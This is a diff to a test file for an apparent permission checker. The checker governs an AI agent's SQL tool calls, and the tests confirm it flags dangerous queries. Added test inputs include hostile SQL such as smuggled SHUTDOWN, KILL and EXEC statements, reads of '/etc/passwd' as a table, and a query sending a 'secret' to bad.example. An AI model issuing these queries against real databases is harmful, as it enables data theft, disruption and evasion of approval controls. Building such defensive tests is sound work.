@@ -10,11 +10,12 @@ RULES = bundle(
         "letters": tool(["read"], {}),
         "ask": tool(["read", "privileged"], {"sql": S}, {"sql": "command"}),
         "run": tool(["write", "privileged"], {"sql": S}, {"sql": "command"}),
-        "play": tool(
+        "both": tool(
             ["read", "privileged"],
-            {"code": S, "also": S},
-            dict.fromkeys(("code", "also"), "command"),
+            {"sql": S, "next_query": S},
+            dict.fromkeys(("sql", "next_query"), "command"),
         ),
+        "play": tool(["read", "privileged"], {"code": S}, {"code": "command"}),
     }
 )
 MORE = [
@@ -42,6 +43,26 @@ MORE = [
     "EXPLAIN ANALYZE DELETE FROM guests",
     "SELECT * FROM guests WHERE name = 'a' PROCEDURE ANALYSE(1, 1)",
     "SELECT @x := 1",
+    "SELECT 1 SHUTDOWN",  # a language that wants no semicolon between statements
+    "SELECT 1 KILL 53",
+    "SELECT 1 DENY SELECT ON guests TO public",
+    "SELECT 1 BACKUP DATABASE guests TO DISK = 'x'",
+    "SELECT 1 WAITFOR DELAY '9:0'",
+    "SELECT * FROM guests SHUTDOWN",
+    "SELECT * FROM guests AS g REVERT",
+    "SELECT * FROM guests g SELECT 2",
+    "SELECT * FROM guests WHERE x = 1 EXEC sp_who",
+    "WITH 1 AS a MATCH p=(n:User) REMOVE n.password",
+    "SELECT * FROM '/etc/passwd'",  # a text as a table
+    "SELECT * FROM guests, 'https://bad.example/?d=secret'",
+    'SELECT * FROM "https://bad.example/x"',
+    "SELECT * FROM csv.`/etc/passwd`",
+    "SELECT * FROM read_csv('x')",
+    'SELECT "admin".round(7)',  # a function of somebody's own
+    "SELECT admin . floor (7)",
+    "SELECT admin.purge_all FROM dual",
+    "SELECT count(x FROM admin), admin.purge_all FROM dual",
+    "SELECT (SELECT pg_sleep(1))",
     "SET ROLE owner",
     "print(open('secret').read())",
     "select * from guests where note = '" + "a" * 5000 + "'",
@@ -54,6 +75,9 @@ LOOKS = [
     "WITH late AS (SELECT * FROM stays WHERE due < now()) SELECT max(due) FROM late",
     "SELECT name FROM guests WHERE id IN (SELECT guest FROM stays) ORDER BY lower(name) LIMIT 10",
     "(SELECT 1) UNION (SELECT 2)",
+    "SELECT f.id, c.name FROM feedback f JOIN public.guests c ON c.id = f.guest AND c.x IS NOT NULL",
+    "SELECT CASE WHEN stars > 1 THEN 'x' ELSE 'y' END AS liked FROM guests WHERE stars BETWEEN 1 AND 3",
+    "SELECT x FROM (SELECT stars AS x FROM guests) s WHERE NOT x IN (1, 2) ORDER BY x DESC LIMIT 5",
     "SELECT name FROM guests WHERE note = 'drop the table; it''s old -- really'",
     "SELECT coalesce(sum(paid), 0) OVER (PARTITION BY room) FROM stays",
 ]
@@ -74,5 +98,13 @@ def test_nor_is_one_that_a_tool_gets_that_writes():
 
 
 def test_one_look_does_not_speak_for_the_other_command():
-    call = ("play", {"code": LOOKS[0], "also": MORE[0]})
+    call = ("both", {"sql": LOOKS[0], "next_query": MORE[0]})
     assert "TASK-POWER" in asks(RULES, "Who is late?", call, LETTER)
+    assert not asks(
+        RULES, "Who is late?", ("both", {"sql": LOOKS[0], "next_query": LOOKS[1]}), LETTER
+    )
+
+
+@pytest.mark.parametrize("program", ["with(process)exit`1`", LOOKS[0]])
+def test_a_program_of_another_language_is_none_whatever_it_looks_like(program):
+    assert "TASK-POWER" in asks(RULES, "Who is late?", ("play", {"code": program}), LETTER)
